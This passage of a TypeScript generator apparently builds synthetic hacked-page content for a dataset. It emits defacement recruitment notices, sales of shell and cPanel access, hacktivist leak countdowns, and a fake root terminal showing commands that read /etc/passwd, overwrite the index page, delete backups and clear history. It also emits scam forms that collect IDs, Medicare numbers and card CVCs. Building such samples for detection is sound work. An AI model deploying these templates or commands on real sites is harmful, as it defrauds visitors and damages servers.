// Crews recruiting on the sites they deface, recalled from memory of defacement mirrors (Zone-H and its clones, about 2010–2024) where Indonesian, Turkish, Bangladeshi and Arab crews sign with an "open recruitment" notice listing requirements (a number of mirrors, SQL injection, shell upload) and a Telegram contact, and of Check Point's and Radware's notes (about 2022–2024) on hacktivist groups recruiting through Telegram: a recruitment notice with the crew's name, requirements, contact and greetings.
const crewRecruitment = fresh13("hacker crew's 'open recruitment' notice with requirements (mirrors on Zone-H, SQLi, shell upload) and a Telegram contact", (page, rng) => {
  const crew = team(rng)
  const who = nick(rng)
  const [h, reqs, cta] = pick(rng, recruitWords)
  const handle = slug(crew).replace(/-/g, "_")
  const inner = `<h2 style="margin:0 0 6px">☠ ${esc(h)} ☠</h2><h3 style="margin:0 0 8px">${esc(crew)}</h3><ul style="text-align:left;display:inline-block">${sample(rng, reqs, between(rng, 3, reqs.length)).map((r) => `<li>${esc(r)}</li>`).join("")}</ul><p>${esc(cta)}: <a href="https://t.me/${handle}" style="color:#0f0">t.me/${handle}</a> · ${contactLine(rng, who)}</p>${chance(rng, 0.5) ? `<p style="font-size:11px">${esc(greetz(rng))}</p>` : ""}`
  const style = pick(rng, ["background:#000;color:#0f0;font-family:monospace", "background:#111;color:#fff;font-family:Courier New,monospace", "background:#1a0000;color:#f33;font-family:Verdana,sans-serif"])
  return splices(insert(pick(rng, [top(page), noticeSpot(rng, page), bottom(page)]), `<div class="${pick(rng, ["recruit", "rekrut", "team-notice"])}" style="${style};text-align:center;padding:18px;margin:10px 0;border:${pick(rng, ["1px dashed #0f0", "2px solid red", "3px double #fff"])}">${inner}</div>`))
})

const saleWords: ReadonlyArray<readonly [string, (host: string) => string, string, string]> = [
  ["FOR SALE", (h) => `Full access to ${h}: root shell, cPanel, database dump and admin panel. Also selling fresh shells, cPanels, SMTPs and RDPs.`, "Price", "Escrow accepted · contact"],
  ["ПРОДАЮ ДОСТУП", (h) => `Полный доступ к ${h}: шелл, cPanel, дамп базы и админка. Также в наличии шеллы, SMTP и RDP.`, "Цена", "Гарант · связь"],
  ["DIJUAL AKSES", (h) => `Akses penuh ${h}: shell, cPanel, dump database, admin panel. Ready juga shell, cPanel, SMTP, RDP fresh.`, "Harga", "Bisa rekber · kontak"],
  ["SATILIK ERİŞİM", (h) => `${h} tam erişim: shell, cPanel, veritabanı dökümü ve yönetim paneli. Shell, SMTP ve RDP de mevcut.`, "Fiyat", "Aracı kabul · iletişim"]
]

// Access sold on the hacked site itself, recalled from memory of Kaspersky's report on the xDedic marketplace of hacked servers (June 2016), Group-IB's report on the MagBo market selling web-shell and cPanel access to hacked sites (about 2019), and of defacement pages and mirrors that advertise "shells, cPanels, SMTPs for sale" with a Telegram or ICQ contact: a block offering access to this very server (shell, cPanel, database dump), with a price in dollars or crypto and a contact.
const accessForSale = fresh13("advert selling access to this hacked server (shell, cPanel, database dump) with a price and a Telegram contact", (page, rng) => {
  const [h, line, price, contact] = pick(rng, saleWords)
  const who = nick(rng)
  const amount = pick(rng, [`$${between(rng, 2, 40) * 5}`, `${between(rng, 1, 9) * 10} USDT`, `0.00${between(rng, 1, 9)} BTC`, `$${between(rng, 1, 9)}00`])
  const rows = sample(rng, [["Shell", `${page.site.host}/${pick(rng, ["wp-content/plugins/" + alnum(rng, 6) + "/up.php", "images/.x.php", "tmp/" + alnum(rng, 4) + ".php", "cgi-bin/" + alnum(rng, 5) + ".php"])}`], ["cPanel", `${page.site.host}:2083`], ["DB", `${between(rng, 2, 90)}k ${pick(rng, ["users", "rows", "emails", "customers"])}`], ["Alexa/DA", `${between(rng, 10, 70)}`], ["SMTP", pick(rng, ["yes", "✓", "inbox"])]], between(rng, 2, 5))
  const table = `<table style="margin:8px auto;border-collapse:collapse">${rows.map(([k, v]) => `<tr><td style="border:1px solid #555;padding:2px 8px">${esc(k!)}</td><td style="border:1px solid #555;padding:2px 8px">${esc(v!)}</td></tr>`).join("")}</table>`
  const inner = `<h2>💀 ${esc(h)} 💀</h2><p>${esc(line(page.site.host))}</p>${table}<p><b>${esc(price)}: ${esc(amount)}</b></p><p>${esc(contact)}: ${contactLine(rng, who)}</p>${chance(rng, 0.4) ? `<p style="font-size:11px">${esc(notifyLine(rng, who))}</p>` : ""}`
  return splices(insert(pick(rng, [top(page), noticeSpot(rng, page), slotAt(page.spots, "bottom")]), `<div class="${pick(rng, ["sale", "market", "shop-access"])}" style="background:${pick(rng, ["#000", "#0b0b0b", "#111827"])};color:${pick(rng, ["#0f0", "#fff", "#ffd400"])};text-align:center;padding:16px;margin:10px 0;font-family:${pick(rng, ["monospace", "Tahoma,sans-serif"])}">${inner}</div>`))
})

const ultimatumWords: ReadonlyArray<readonly [string, (brand: string, demand: string, n: string) => string, ReadonlyArray<string>, string]> = [
  ["ULTIMATUM", (b, d, n) => `We have copied ${n} records from ${b}. If ${b} does not ${d} before the countdown ends, everything will be published.`, ["publicly apologise for its statements", "end its contracts with the occupation army", "release the names of those responsible", "withdraw its support for the war", "pay the workers it fired"], "Time left"],
  ["إنذار أخير", (b, d, n) => `لدينا ${n} سجل من ${b}. إذا لم ${d} قبل انتهاء العد التنازلي سننشر كل شيء.`, ["تعتذر علنًا", "تقطع تعاملها مع الاحتلال", "تسحب دعمها للحرب"], "الوقت المتبقي"],
  ["УЛЬТИМАТУМ", (b, d, n) => `У нас ${n} записей из ${b}. Если ${b} не ${d} до конца отсчёта, мы опубликуем всё.`, ["извинится публично", "прекратит сотрудничество с правительством", "вернёт деньги людям"], "Осталось"],
  ["ÜLTİMATOM", (b, d, n) => `${b} sisteminden ${n} kayıt aldık. Geri sayım bitmeden ${b} ${d}, hepsi yayınlanacak.`, ["özür dilemezse", "işbirliğini bitirmezse", "açıklama yapmazsa"], "Kalan süre"],
  ["ULTIMATUM", (b, d, n) => `Kami memiliki ${n} data dari ${b}. Jika ${b} tidak ${d} sebelum hitungan mundur selesai, semua data akan kami sebarkan.`, ["meminta maaf secara terbuka", "menghentikan kerja sama dengan pihak asing", "membatalkan kebijakan tersebut"], "Sisa waktu"]
]

// Hacktivist ultimatums, recalled from memory of countdown timers on ransomware groups' leak sites (Maze, LockBit and others, 2019–2024) that hacktivist crews copied, of Anonymous' and pro-Palestinian and pro-Russian groups' threats to leak data unless a company or government met a demand (reported by Cyberknow, Radware and the press, about 2022–2024), and of defacements carrying such a deadline: a block stating how many records were taken, the demand, and a live countdown updated by an inline script, with the crew's name.
const leakUltimatum = fresh13("hacktivist ultimatum with a live countdown to publishing the site's data unless a demand is met", (page, rng) => {
  const [h, line, demands, left] = pick(rng, ultimatumWords)
  const crew = team(rng)
  const n = pick(rng, [`${between(rng, 12, 950)},${digits(rng, 3)}`, `${between(rng, 1, 9)}.${digits(rng, 1)}M`, `${between(rng, 2, 80)} GB`])
  const id = `cd${alnum(rng, 5)}`
  const deadline = Date.UTC(2025 + int(rng, 2), int(rng, 12), 1 + int(rng, 28), int(rng, 24))
  const hours = pick(rng, [24, 48, 72, 96])
  const start = pick(rng, [`${deadline}`, `(+localStorage.getItem("${id}")||(localStorage.setItem("${id}",Date.now()+${hours * 3600_000}),Date.now()+${hours * 3600_000}))`])
  const script = `<script>(function(){var e=${start};function t(){var s=Math.max(0,Math.floor((e-Date.now())/1000)),d=Math.floor(s/86400),h=Math.floor(s%86400/3600),m=Math.floor(s%3600/60),x=s%60,el=document.getElementById("${id}");if(el)el.textContent=d+"d "+("0"+h).slice(-2)+":"+("0"+m).slice(-2)+":"+("0"+x).slice(-2)}t();setInterval(t,1000)})();</script>`
  const inner = `<h2>⏳ ${esc(h)} — ${esc(crew)}</h2><p>${esc(line(brandName(page), pick(rng, demands), n))}</p><p style="font-size:28px;font-family:monospace">${esc(left)}: <span id="${id}">${hours}:00:00</span></p><p>${chance(rng, 0.5) ? esc(signature(rng, nick(rng)).text) : contactLine(rng, nick(rng))}</p>`
  return splices(insert(pick(rng, [top(page), noticeSpot(rng, page)]), `<div class="${pick(rng, ["ultimatum", "countdown", "warning"])}" style="background:${pick(rng, ["#000", "#200", "#101418"])};color:${pick(rng, ["#f33", "#fff", "#ffcc00"])};text-align:center;padding:20px;margin:0 0 12px${chance(rng, 0.4) ? ";position:sticky;top:0;z-index:99999" : ""}">${inner}</div>${script}`))
})

// Root shells shown as the defacement, recalled from memory of defacement pages (Zone-H mirrors, about 2005–2024) that show a fake or real terminal session (id, uname -a, whoami, the index file being overwritten) in green on black, often "typed" line by line, and of CSS typewriter effects (steps() animations on width): a terminal block, drawn over the page or at its top, in which each command and its output appears in turn through a CSS animation, with no script.
const rootTerminal = fresh13("root shell session on the site's server typed out line by line by a CSS animation (id, uname -a, index overwritten)", (page, rng) => {
  const who = nick(rng)
  const box0 = pick(rng, ["web01", "srv", "vps" + digits(rng, 3), "cpanel", "prod-www", "ns1"])
  const prompt = `root@${box0}:${pick(rng, ["~", "/var/www/html", "/home/" + (slug(page.site.brand) || "site") + "/public_html"])}#`
  const kernel = pick(rng, ["5.4.0-" + between(rng, 100, 200) + "-generic", "3.10.0-1160.el7.x86_64", "4.18.0-" + between(rng, 300, 553) + ".el8_" + between(rng, 1, 9) + ".x86_64", "6.1.0-" + between(rng, 10, 28) + "-amd64"])
  const lines = [
    `${prompt} id`, "uid=0(root) gid=0(root) groups=0(root)",
    `${prompt} uname -a`, `Linux ${box0} ${kernel} #1 SMP x86_64 GNU/Linux`,
    ...(chance(rng, 0.5) ? [`${prompt} cat /etc/passwd | wc -l`, `${between(rng, 24, 60)}`] : []),
    `${prompt} echo "${signature(rng, who).text}" > ${pick(rng, ["index.html", "index.php", "/var/www/html/index.html"])}`,
    `${prompt} ${pick(rng, ["rm -rf backup/", "history -c", "chattr +i index.html", "service apache2 restart"])}`,
    `${prompt} exit`, `-- ${team(rng)} --`
  ]
  const anim = `t${alnum(rng, 4)}`
  const step = pick(rng, [0.6, 0.9, 1.2])
  const css = `<style>@keyframes ${anim}{from{width:0}to{width:100%}}.${anim} span{display:block;overflow:hidden;white-space:nowrap;width:0;animation:${anim} ${step}s steps(40,end) forwards}</style>`
  const body = lines.map((l, i) => `<span style="animation-delay:${(i * step).toFixed(1)}s">${esc(l)}</span>`).join("")
  const fixed = chance(rng, 0.5)
  const block = `<div class="${anim}" style="${fixed ? "position:fixed;top:0;left:0;width:100%;height:100%;z-index:2147483647;" : "margin:0 0 12px;"}background:#000;color:${pick(rng, ["#0f0", "#33ff33", "#e0e0e0", "#ff3b3b"])};font:${pick(rng, [14, 15, 16])}px/1.5 ${pick(rng, ["monospace", "Courier New,monospace", "Consolas,monospace"])};padding:24px;box-sizing:border-box;text-align:left">${body}</div>`
  return splices(insert(head(page), css), insert(top(page), block))
})

const wrapSponsors = ["Red Bull", "Monster Energy", "Coca-Cola", "Uber Eats", "Pepsi", "Heineken", "Amazon Prime", "Budweiser", "Jack Daniel's", "Celsius"]
const wrapWords: ReadonlyArray<readonly [string, (s: string, pay: string, chk: string) => string, ReadonlyArray<string>, string]> = [
  ["Get paid to drive: car wrap advertising", (s, p, c) => `${s} is looking for drivers to carry its advert. Earn ${p} per week just by driving as usual. We mail you a cheque for ${c}: deposit it, keep your first week's pay and send the rest to our certified wrap installer.`, ["Full name", "Mailing address", "Phone", "E-mail", "Car make and year"], "Apply now"],
  ["Gana dinero manejando: publicidad en tu auto", (s, p, c) => `${s} busca conductores para llevar su anuncio. Gana ${p} por semana manejando como siempre. Te enviamos un cheque de ${c}: deposítalo, quédate con tu primer pago y envía el resto a nuestro instalador certificado.`, ["Nombre completo", "Dirección postal", "Teléfono", "Correo", "Marca y año del auto"], "Aplicar ahora"]
]

// Car-wrap advertising scams, recalled from memory of the US Federal Trade Commission's consumer alerts (about 2017 and 2023) and the Better Business Bureau's warnings on offers to "get paid to drive" with an energy-drink or beer brand's advert on the car, in which a fake cheque is mailed and the driver is told to forward most of it to the "installer" before it bounces: an advert in the sponsor's name with weekly pay, the cheque instructions and a form taking name, postal address, phone and e-mail, sent to another host, with a Gmail contact.
const carWrapCheque = fresh13("'get paid to drive with a brand's advert on your car' offer: a mailed cheque, the rest forwarded to the 'installer'", (page, rng) => {
  const [h, p, fields, cta] = pick(rng, wrapWords)
  const s = pick(rng, wrapSponsors)
  const host = scamHost(rng, page, ["carwrap", "drivewrap", "wrapads", "autowrap", "paid2drive"])
  const mail = `${pick(rng, ["carwrap", "wrap.program", "drivers", "agent." + slug(s).replace(/-/g, "")])}${digits(rng, 2)}@${freeMail(rng)}`
  const names = ["name", "address", "phone", "email", "car"]
  const form = `<form action="https://${host}/${pick(rng, ["apply", "submit.php", "drivers/register"])}" method="post">${fields.map((f, i) => `<input name="${names[i]}" placeholder="${esc(f)}" style="display:block;margin:4px 0;width:90%">`).join("")}<button type="submit" style="background:#0a7d2c;color:#fff;border:0;padding:7px 16px">${esc(cta)}</button></form>`
  const inner = `<h3>🚗 ${esc(h)}</h3><p>${esc(p(s, `$${between(rng, 3, 9)}00`, `$${between(rng, 18, 49)}${pick(rng, ["00", "50", "75"])}`))}</p>${form}<p style="font-size:11px">${esc(pick(rng, ["Questions", "Preguntas", "Contact"]))}: <a href="mailto:${mail}">${mail}</a></p>`
  return splices(insert(someSpot(rng, page), box(rng, ["sponsored", "car-wrap", "driver-program"], "#0a7d2c", inner)))
})

const reshipWords: Record<Lang, readonly [string, (pay: string) => string, ReadonlyArray<string>, string]> = {
  en: ["Work from home: parcel quality inspector", (p) => `Receive parcels at home, check the contents, photograph them and send them on with the prepaid labels we e-mail you. ${p} a month plus a bonus for each parcel. No experience needed.`, ["Full name", "Home address", "Phone", "Upload a copy of your ID"], "Register"],
  fr: ["Télétravail : contrôleur qualité colis", (p) => `Recevez des colis chez vous, vérifiez leur contenu, photographiez-les et réexpédiez-les avec les étiquettes prépayées que nous vous envoyons. ${p} par mois plus une prime par colis. Sans expérience.`, ["Nom complet", "Adresse", "Téléphone", "Copie de votre pièce d'identité"], "S'inscrire"],
  de: ["Heimarbeit: Paketprüfer/in gesucht", (p) => `Nehmen Sie Pakete zu Hause an, prüfen und fotografieren Sie den Inhalt und senden Sie sie mit den vorfrankierten Etiketten weiter, die wir Ihnen mailen. ${p} im Monat plus Prämie pro Paket. Keine Erfahrung nötig.`, ["Vollständiger Name", "Wohnadresse", "Telefon", "Kopie Ihres Ausweises"], "Registrieren"],
  es: ["Trabajo desde casa: inspector de paquetes", (p) => `Recibe paquetes en casa, revisa el contenido, hazles fotos y reenvíalos con las etiquetas prepagadas que te enviamos. ${p} al mes más un bono por paquete. Sin experiencia.`, ["Nombre completo", "Domicilio", "Teléfono", "Copia de tu DNI"], "Registrarse"],
  nl: ["Thuiswerk: pakketcontroleur gezocht", (p) => `Ontvang pakketten thuis, controleer en fotografeer de inhoud en stuur ze door met de gefrankeerde labels die wij mailen. ${p} per maand plus bonus per pakket. Geen ervaring nodig.`, ["Volledige naam", "Woonadres", "Telefoon", "Kopie van je ID"], "Aanmelden"],
  pt: ["Trabalho em casa: inspetor de encomendas", (p) => `Receba encomendas em casa, confira o conteúdo, fotografe e reenvie com as etiquetas pré-pagas que enviamos. ${p} por mês mais bônus por pacote. Sem experiência.`, ["Nome completo", "Endereço", "Telefone", "Cópia do documento"], "Cadastrar"],
  it: ["Lavoro da casa: ispettore pacchi", (p) => `Ricevi pacchi a casa, controlla e fotografa il contenuto e rispediscili con le etichette prepagate che ti inviamo. ${p} al mese più un bonus a pacco. Nessuna esperienza.`, ["Nome e cognome", "Indirizzo", "Telefono", "Copia del documento"], "Registrati"]
}

// Reshipping mule jobs, recalled from memory of Krebs on Security's series on reshipping scams (about 2014–2015) and the paper "Drops for Stuff" (Hao et al., ACM CCS 2015) on reshipping mule operations, and of the US Postal Inspection Service's and Europol's warnings (about 2018–2023) on "quality control" and "logistics coordinator" jobs that have people forward goods bought with stolen cards: a job notice in the site's language with a form asking for name, home address, phone and an ID upload, posting to a "logistics" host.
const reshippingJob = fresh13("'work from home as a parcel quality inspector' reshipping job taking the home address and an ID upload", (page, rng) => {
  const [h, p, fields, cta] = siteOr(rng, page, reshipWords)
  const host = scamHost(rng, page, ["logistics", "parcel", "cargo", "shipping", "express", "forward"])
  const company = `${pick(rng, ["Nordic", "Atlas", "Swift", "Euro", "Prime", "Global", "Blue Line"])} ${pick(rng, ["Logistics", "Cargo", "Parcel Solutions", "Fulfilment", "Express"])} ${pick(rng, ["Ltd", "GmbH", "B.V.", "S.L.", "Inc."])}`
  const names = ["name", "address", "phone", "id_doc"]
  const form = `<form action="https://${host}/${pick(rng, ["careers/apply", "join.php", "register"])}" method="post" enctype="multipart/form-data">${fields.map((f, i) => (i === 3 ? `<label style="display:block;margin:4px 0">${esc(f)} <input type="file" name="${names[i]}"></label>` : `<input name="${names[i]}" placeholder="${esc(f)}" style="display:block;margin:4px 0">`)).join("")}<button type="submit">${esc(cta)}</button></form>`
  return splices(insert(someSpot(rng, page), box(rng, ["job-offer", "vacancy", "careers"], "#546e7a", `<h3>📦 ${esc(h)}</h3><p><b>${esc(company)}</b></p><p>${esc(p(page.site.locale.money(between(rng, 22, 38) * 100)))}</p>${form}`)))
})

const dvWords: Record<Lang, readonly [string, (c: string, fee: string, d: string) => string, string, string]> = {
  en: ["Congratulations! You have been selected", (c, f, d) => `Your entry in the Diversity Visa (Green Card) Lottery was selected. Confirmation number ${c}. To keep your place, confirm your selection and pay the ${f} visa processing fee before ${d}.`, "Confirm my selection", "U.S. Department of State · Kentucky Consular Center"],
  fr: ["Félicitations ! Vous avez été sélectionné", (c, f, d) => `Votre inscription à la loterie Diversity Visa (carte verte) a été tirée au sort. Numéro de confirmation ${c}. Pour garder votre place, confirmez et payez les frais de dossier de ${f} avant le ${d}.`, "Confirmer ma sélection", "Département d'État des États-Unis · Kentucky Consular Center"],
  de: ["Glückwunsch! Sie wurden ausgewählt", (c, f, d) => `Ihre Teilnahme an der Diversity-Visa-Lotterie (Green Card) wurde ausgelost. Bestätigungsnummer ${c}. Bestätigen Sie Ihre Auswahl und zahlen Sie die Bearbeitungsgebühr von ${f} bis zum ${d}.`, "Auswahl bestätigen", "US-Außenministerium · Kentucky Consular Center"],
  es: ["¡Felicidades! Usted ha sido seleccionado", (c, f, d) => `Su inscripción en la Lotería de Visas de Diversidad (Green Card) fue seleccionada. Número de confirmación ${c}. Para conservar su lugar, confirme y pague la tasa de trámite de ${f} antes del ${d}.`, "Confirmar mi selección", "Departamento de Estado de EE. UU. · Kentucky Consular Center"],
  nl: ["Gefeliciteerd! U bent geselecteerd", (c, f, d) => `Uw inschrijving voor de Diversity Visa-loterij (Green Card) is geselecteerd. Bevestigingsnummer ${c}. Bevestig uw selectie en betaal de behandelkosten van ${f} vóór ${d}.`, "Selectie bevestigen", "Amerikaans ministerie van Buitenlandse Zaken · Kentucky Consular Center"],
  pt: ["Parabéns! Você foi selecionado", (c, f, d) => `Sua inscrição na Loteria de Vistos de Diversidade (Green Card) foi sorteada. Número de confirmação ${c}. Para manter sua vaga, confirme e pague a taxa de processamento de ${f} até ${d}.`, "Confirmar minha seleção", "Departamento de Estado dos EUA · Kentucky Consular Center"],
  it: ["Congratulazioni! Sei stato selezionato", (c, f, d) => `La tua iscrizione alla lotteria Diversity Visa (Green Card) è stata estratta. Numero di conferma ${c}. Per mantenere il posto, conferma e paga la tassa di gestione di ${f} entro il ${d}.`, "Conferma la selezione", "Dipartimento di Stato USA · Kentucky Consular Center"]
}

// Green-card lottery scams, recalled from memory of the US State Department's warnings on every year's Diversity Visa instructions (that it never e-mails winners and that results are only on dvprogram.state.gov), and of US embassies' fraud alerts (about 2010–2024) on sites and e-mails asking DV "winners" to pay processing fees: a notice saying the visitor was selected, with a confirmation number, a fee and a deadline, linking to a look-alike of the DV site.
const dvLotteryFee = fresh13("'you were selected in the Green Card lottery, pay the processing fee' notice linking to a look-alike DV site", (page, rng) => {
  const [h, p, cta, from] = siteOr(rng, page, dvWords)
  const yr = 2026 + int(rng, 2)
  const host = pick(rng, [`dv${yr}-${pick(rng, ["state", "gov", "usa", "lottery"])}.${tld(rng)}`, `dvprogram-state-gov.${tld(rng)}`, `usa-greencard-${pick(rng, ["lottery", "official", "result"])}.${tld(rng)}`, randomDomain(rng)])
  const conf = `${yr}${upper(rng, 2)}${digits(rng, 10)}`
  const fee = pick(rng, ["$330", "$220", "$819", "US$ 450", "$660"])
  const inner = `<h3>🇺🇸 ${esc(h)} — DV-${yr}</h3><p>${esc(p(conf, fee, dateOf(rng, page)))}</p><p><a href="https://${host}/${pick(rng, ["entrant/confirm", "esc/check", "confirm?c=" + conf])}" style="background:#1f3d7a;color:#fff;padding:7px 16px;text-decoration:none">${esc(cta)}</a></p><p style="font-size:11px;color:#555">${esc(from)}</p>`
  return splices(insert(noticeSpot(rng, page), box(rng, ["dv-notice", "notice", "alert-info"], "#1f3d7a", inner)))
})

const sugarWords: ReadonlyArray<readonly [string, (amt: string, fee: string) => string, string]> = [
  ["💸 Sugar Daddy wants to bless you", (a, f) => `Rich sugar daddy looking for a sugar baby. ${a} weekly allowance, no meeting needed. Send your Cash App, PayPal or Zelle and I pay today. Only a ${f} one-time verification fee (Apple gift card) to prove you are real.`, "DM me now"],
  ["💸 Sugar mommy giving allowances", (a, f) => `Lonely successful woman wants to spoil you: ${a} every week, no sex needed, just chat. First pay the ${f} activation fee so I know you are serious.`, "Text me"],
  ["💸 Sugar daddy busca sugar baby", (a, f) => `Mesada de ${a} por semana, sin encuentros. Envíame tu Cash App o PayPal y te pago hoy. Solo ${f} de verificación (tarjeta de regalo).`, "Escríbeme"]
]

// Sugar-daddy scams, recalled from memory of the Better Business Bureau's and the FTC's warnings (about 2019–2023), of the UK's Action Fraud and Lloyds Bank's alerts (2022) on "sugar daddy" offers of weekly allowances that ask for a "verification" or "activation" fee first or send fake payments, and of spam comments and hacked pages carrying such offers with a Telegram, WhatsApp or Cash App handle: an offer block with an allowance, the fee and a handle.
const sugarAllowance = fresh13("'sugar daddy will pay you a weekly allowance' offer asking for a verification fee in gift cards", (page, rng) => {
  const [h, p, cta] = pick(rng, sugarWords)
  const name = `${pick(rng, ["richard", "daddy", "james", "mike", "johnson", "mommy", "linda"])}${pick(rng, ["_", ".", ""])}${pick(rng, ["blessings", "sugar", "official", "kind", "usa"])}${digits(rng, 2)}`
  const contact = pick(rng, [`<a href="https://t.me/${name}">Telegram @${name}</a>`, `<a href="${waLink(intlMobile(rng))}">WhatsApp</a>`, `Cash App <b>$${name.replace(/[._]/g, "")}</b>`, `<a href="https://www.instagram.com/${name}/">IG @${name}</a>`])
  const inner = `<h3>${esc(h)}</h3><p>${esc(p(`$${between(rng, 5, 30)}00`, `$${pick(rng, ["50", "100", "150", "25"])}`))}</p><p>${esc(cta)}: ${contact}</p>`
  const style = pick(rng, ["background:#fff0f6;border:2px dashed #e91e63;padding:12px;margin:12px 0", "background:#000;color:#ffd700;padding:14px;margin:12px 0", "border:1px solid #ccc;padding:10px;margin:8px 0"])
  return splices(insert(pick(rng, [spamSpot(rng, page), slotAt(page.spots, "middle")]), `<div class="${pick(rng, ["comment", "sd-offer", "sponsored"])}" style="${style}">${inner}</div>`))
})

const altWords: Record<Lang, readonly [ReadonlyArray<string>, (what: string, pct: string) => string, string, string]> = {
  en: [["carbon credits", "fine wine", "rare whisky casks", "land plots with planning potential", "coloured diamonds"], (w, p) => `Private clients are earning ${p} a year with ${w}. Demand is outpacing supply and prices only go up. Request our free brochure or call a senior broker today.`, "Request the brochure", "Call a broker"],
  fr: [["crédits carbone", "grands vins", "fûts de whisky rares", "terrains constructibles", "diamants de couleur"], (w, p) => `Nos clients privés gagnent ${p} par an avec les ${w}. La demande dépasse l'offre et les prix ne font que monter. Demandez notre brochure gratuite ou appelez un conseiller.`, "Recevoir la brochure", "Appeler un conseiller"],
  de: [["CO2-Zertifikaten", "edlen Weinen", "seltenen Whiskyfässern", "Bauerwartungsland", "Farbdiamanten"], (w, p) => `Privatkunden erzielen ${p} im Jahr mit ${w}. Die Nachfrage übersteigt das Angebot, die Preise steigen nur. Fordern Sie unsere Broschüre an oder rufen Sie einen Berater an.`, "Broschüre anfordern", "Berater anrufen"],
  es: [["créditos de carbono", "vinos selectos", "barricas de whisky raras", "terrenos recalificables", "diamantes de color"], (w, p) => `Nuestros clientes privados ganan un ${p} al año con ${w}. La demanda supera la oferta y los precios solo suben. Pida nuestro folleto gratuito o llame a un asesor.`, "Pedir el folleto", "Llamar a un asesor"],
  nl: [["CO2-credits", "topwijnen", "zeldzame whiskyvaten", "bouwgrond", "gekleurde diamanten"], (w, p) => `Particuliere klanten verdienen ${p} per jaar met ${w}. De vraag overtreft het aanbod en de prijzen stijgen alleen. Vraag onze gratis brochure aan of bel een adviseur.`, "Brochure aanvragen", "Bel een adviseur"],
  pt: [["créditos de carbono", "vinhos finos", "barris de whisky raros", "terrenos com potencial", "diamantes coloridos"], (w, p) => `Clientes particulares ganham ${p} ao ano com ${w}. A procura supera a oferta e os preços só sobem. Peça o nosso folheto gratuito ou ligue a um consultor.`, "Pedir o folheto", "Ligar a um consultor"],
  it: [["crediti di carbonio", "vini pregiati", "botti di whisky rare", "terreni edificabili", "diamanti colorati"], (w, p) => `I nostri clienti privati guadagnano il ${p} l'anno con ${w}. La domanda supera l'offerta e i prezzi salgono soltanto. Richiedi la brochure gratuita o chiama un consulente.`, "Richiedi la brochure", "Chiama un consulente"]
}

// Alternative-investment boiler rooms, recalled from memory of the UK Financial Conduct Authority's ScamSmart warnings (about 2014–2022) on carbon-credit, fine-wine, whisky-cask, land-banking and coloured-diamond schemes sold by cold-calling "brokers", and of Action Fraud's figures on such losses: a panel promising a yearly return with a brochure form posting to the firm's host and a broker's London or local number.
const alternativeInvestment = fresh13("'earn 18% a year with carbon credits, fine wine or whisky casks' broker panel with a brochure form and a call line", (page, rng) => {
  const [whats, p, brochure, call] = siteOr(rng, page, altWords)
  const what = pick(rng, whats)
  const firm = `${pick(rng, ["Sterling", "Mayfair", "Greenfield", "Carbon", "Vintage", "Highland", "Kensington", "Regent"])} ${pick(rng, ["Asset Partners", "Capital", "Investments", "Reserve", "Trading House", "Wealth"])}`
  const host = pick(rng, [`${slug(firm)}.${pick(rng, ["co.uk", "com", "ltd", "eu", "net"])}`, scamHost(rng, page, ["carbon", "finewine", "caskinvest", "landbank", "diamonds"])])
  const phone = pick(rng, [`+44 20 ${digits(rng, 4)} ${digits(rng, 4)}`, `020 ${digits(rng, 4)} ${digits(rng, 4)}`, `+44 (0)203 ${digits(rng, 3)} ${digits(rng, 4)}`, intlMobile(rng)])
  const form = `<form action="https://${host}/${pick(rng, ["brochure", "lead.php", "enquiry"])}" method="post"><input name="name" placeholder="Name"> <input type="tel" name="phone" placeholder="Tel."> <input type="email" name="email" placeholder="E-mail"> <button type="submit">${esc(brochure)}</button></form>`
  const inner = `<h3>📈 ${esc(firm)}</h3><p>${esc(p(what, pick(rng, ["12–18%", "18%", "24%", "9.5%", "up to 30%"])))}</p>${form}<p>${esc(call)}: <a href="tel:${phone.replace(/[^\d+]/g, "")}">${esc(phone)}</a></p>`
  return splices(insert(someSpot(rng, page), box(rng, ["invest-panel", "sponsored", "partner-offer"], "#1b5e20", inner)))
})

const medicareWords: ReadonlyArray<readonly [string, string, ReadonlyArray<string>, string]> = [
  ["Medicare now covers FREE cancer genetic screening", "If you have Medicare, you can get an at-home cheek-swab DNA test at no cost. Find out your hereditary cancer risk. Kits are limited — order yours today.", ["Full name", "Medicare number", "Date of birth", "Doctor's name", "Phone"], "Send my free kit"],
  ["Medicare: FREE back and knee braces for seniors", "Medicare members qualify for a free orthopedic brace delivered to your door. No co-pay. Enter your Medicare details to check eligibility.", ["Full name", "Medicare number", "Date of birth", "Doctor's name", "Phone"], "Check eligibility"],
  ["Medicare cubre pruebas genéticas GRATIS", "Con Medicare puede recibir una prueba de ADN en casa sin costo. Conozca su riesgo hereditario de cáncer. Quedan pocos kits.", ["Nombre completo", "Número de Medicare", "Fecha de nacimiento", "Nombre de su médico", "Teléfono"], "Enviar mi kit gratis"]
]

// Medicare genetic-testing and brace schemes, recalled from memory of the US Department of Health and Human Services Office of Inspector General's fraud alerts on genetic-testing scams (June 2019) and on durable-medical-equipment schemes (Operation Brace Yourself, April 2019), which took Medicare numbers at health fairs, by phone and through online ads to bill for tests and braces: a notice offering a free test or brace and a form asking for the Medicare number, date of birth and doctor, sent to another host.
const medicareGenetic = fresh13("'Medicare now covers free genetic cancer screening' kit offer asking for the Medicare number and date of birth", (page, rng) => {
  const [h, p, fields, cta] = pick(rng, medicareWords)
  const host = scamHost(rng, page, ["medicare", "seniorhealth", "dnascreen", "genetest", "benefits"])
  const names = ["name", "mbi", "dob", "doctor", "phone"]
  const form = `<form action="https://${host}/${pick(rng, ["kit/order", "eligibility", "submit"])}" method="post">${fields.map((f, i) => `<label style="display:block;margin:3px 0">${esc(f)} <input name="${names[i]}"${i === 2 ? ` placeholder="MM/DD/YYYY"` : ""}></label>`).join("")}<button type="submit" style="background:#0b5394;color:#fff;border:0;padding:7px 14px">${esc(cta)}</button></form>`
  const inner = `<h3>🧬 ${esc(h)}</h3><p>${esc(p)}</p>${form}<p style="font-size:12px">${pick(rng, ["Questions? Call", "Or call toll-free", "Llame gratis"])} <b>${tollFree(rng)}</b></p>`
  return splices(insert(someSpot(rng, page), box(rng, ["health-offer", "medicare-notice", "sponsored"], "#0b5394", inner)))
})

const flightWords: Record<Lang, readonly [string, (amt: string) => string, ReadonlyArray<string>, string]> = {
  en: ["Flight delayed or cancelled? Claim your compensation", (a) => `Under EU Regulation 261/2004 you are entitled to up to ${a} per passenger. Enter your booking and the card you paid with — the airline refunds the compensation directly to it within 48 hours.`, ["Booking reference", "Flight number", "Card number", "Expiry (MM/YY)", "CVC"], "Claim now"],
